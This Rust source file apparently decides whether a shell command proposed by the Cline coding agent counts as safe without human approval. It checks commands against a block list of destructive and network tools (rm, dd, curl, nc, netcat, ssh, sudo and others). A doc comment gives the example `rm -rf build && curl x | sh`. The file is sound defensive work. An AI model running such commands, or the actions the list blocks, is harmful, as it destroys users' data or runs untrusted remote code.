//! Command safety: whether a command may count as Cline's "safe command". Cline trusts the
//! model's `requires_approval: false` alone; toolgate also requires that its own analysis finds
//! nothing risky, so a model that mislabels `rm -rf build && curl x | sh` gains nothing.

use crate::shell::{Analysis, Problem, SimpleCommand};

/// Programs that change or destroy state, run code given to them, or reach the network.
/// A command using any of them is never "safe", whatever the model says.
const RISKY_PROGRAMS: &[&str] = &[
    "rm",
    "rmdir",
    "unlink",
    "mv",
    "dd",
    "shred",
    "truncate",
    "wipefs",
    "mkfs",
    "chmod",
    "chown",
    "chgrp",
    "ln",
    "tee",
    "kill",
    "pkill",
    "killall",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "systemctl",
    "service",
    "mount",
    "umount",
    "sudo",
    "doas",
    "su",
    "eval",
    "exec",
    "source",
    ".",
    "curl",
    "wget",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ftp",
    "bash",
    "sh",
    "zsh",
    "dash",
    "fish",
    "ksh",
    "csh",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "php",
    "deno",
    "bun",
    "osascript",
    "powershell",
    "pwsh",
    "crontab",
    "at",
    "docker",
    "kubectl",
    "terraform",
    "xargs",
    "find",
    "sed",
    "awk",
    "install",
    "cp",
    "patch",
    "npx",
];

/// Sub-commands of otherwise harmless programs that are not.
const RISKY_SUBCOMMANDS: &[(&str, &str)] = &[
    ("git", "push"),
    ("git", "reset"),
    ("git", "clean"),
    ("git", "checkout"),
    ("git", "rebase"),
    ("git", "filter-branch"),
    ("npm", "publish"),
    ("npm", "exec"),
    ("cargo", "publish"),
    ("yarn", "publish"),
    ("pnpm", "publish"),
];

/// What makes a command not safe.
enum Risk<'a> {
    Unparseable(&'a str),
    Suspicious(&'a str),
    NotPlain,
    /// A program (or launcher) that can change the system or run code.
    Program(&'a str),
    /// A program and its sub-command that changes state.
    Subcommand(&'a str, &'a str),
}

/// Why `analysis` is not safe, or `None` when nothing risky was found.
pub fn risk(analysis: &Analysis) -> Option<String> {
    Some(match find_risk(analysis)? {
        Risk::Unparseable(why) => format!("the command cannot be analysed ({why})"),
        Risk::Suspicious(why) => format!("the command is suspicious ({why})"),
        Risk::NotPlain => {
            "the command uses redirections, substitutions or other non-plain syntax".into()
        }
        Risk::Program(name) => format!("`{name}` can change the system or run arbitrary code"),
        Risk::Subcommand(base, sub) => format!("`{base} {sub}` changes state"),
    })
}

/// Whether nothing risky was found: [`risk`] without building the sentence.
pub fn is_safe(analysis: &Analysis) -> bool {
    find_risk(analysis).is_none()
}

fn find_risk(analysis: &Analysis) -> Option<Risk<'_>> {
    match &analysis.problem {
        Some(Problem::Unparseable(why)) => return Some(Risk::Unparseable(why)),
        Some(Problem::Suspicious(why)) => return Some(Risk::Suspicious(why)),
        None => {}
    }
    if !analysis.plain {
        return Some(Risk::NotPlain);
    }
    analysis.commands.iter().find_map(risky_command)
}

fn risky_command(cmd: &SimpleCommand) -> Option<Risk<'_>> {
    // A launcher (`sudo`, `xargs`, `bash -c`) is judged like the program it is.
    for w in &cmd.wrappers {
        let base = w.name.split_whitespace().next().unwrap_or(&w.name);
        if risky_program(base) {
            return Some(Risk::Program(&w.name));
        }
    }
    let name = program(cmd)?;
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    if risky_program(base) || base.starts_with("mkfs.") {
        return Some(Risk::Program(base));
    }
    let sub = cmd.words.iter().skip(1).find(|w| !w.starts_with('-'));
    if let Some(sub) = sub {
        if RISKY_SUBCOMMANDS
            .iter()
            .any(|(p, s)| p.len() == base.len() && *p == base && s == sub)
        {
            return Some(Risk::Subcommand(base, sub));
        }
    }
    None
}

fn risky_program(name: &str) -> bool {
    name.len() < 16 && RISKY_KEYS.binary_search(&key(name)).is_ok()
}

/// [`RISKY_PROGRAMS`] as sorted integer keys: a search compares integers, not strings.
const RISKY_KEYS: [u128; RISKY_PROGRAMS.len()] = {
    let mut keys = [0u128; RISKY_PROGRAMS.len()];
    let mut i = 0;
    while i < keys.len() {
        assert!(
            RISKY_PROGRAMS[i].len() < 16,
            "a risky program's name is too long for its key"
        );
        keys[i] = key(RISKY_PROGRAMS[i]);
        // Insertion sort, at compile time.
        let mut j = i;
        while j > 0 && keys[j - 1] > keys[j] {
            let k = keys[j];
            keys[j] = keys[j - 1];
            keys[j - 1] = k;
            j -= 1;
        }
        i += 1;
    }
    keys
};

/// A name of fewer than 16 bytes as one integer: its bytes, then its length.
const fn key(name: &str) -> u128 {
    let bytes = name.as_bytes();
    let mut k = [0u8; 16];
    let mut i = 0;
    while i < bytes.len() && i < 15 {
        k[i] = bytes[i];
        i += 1;
    }
    k[15] = bytes.len() as u8;
    u128::from_be_bytes(k)
}

fn program(cmd: &SimpleCommand) -> Option<&str> {
    cmd.words.first().map(|s| s.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_listed_program_and_only_those_is_risky() {
        assert!(RISKY_PROGRAMS.iter().all(|p| risky_program(p)));
        for safe in [
            "",
            "r",
            "rmm",
            "ls",
            "npm",
            "git",
            "pythonn",
            "a_very_long_program_name",
        ] {
            assert!(!risky_program(safe), "{safe}");
        }
    }
}
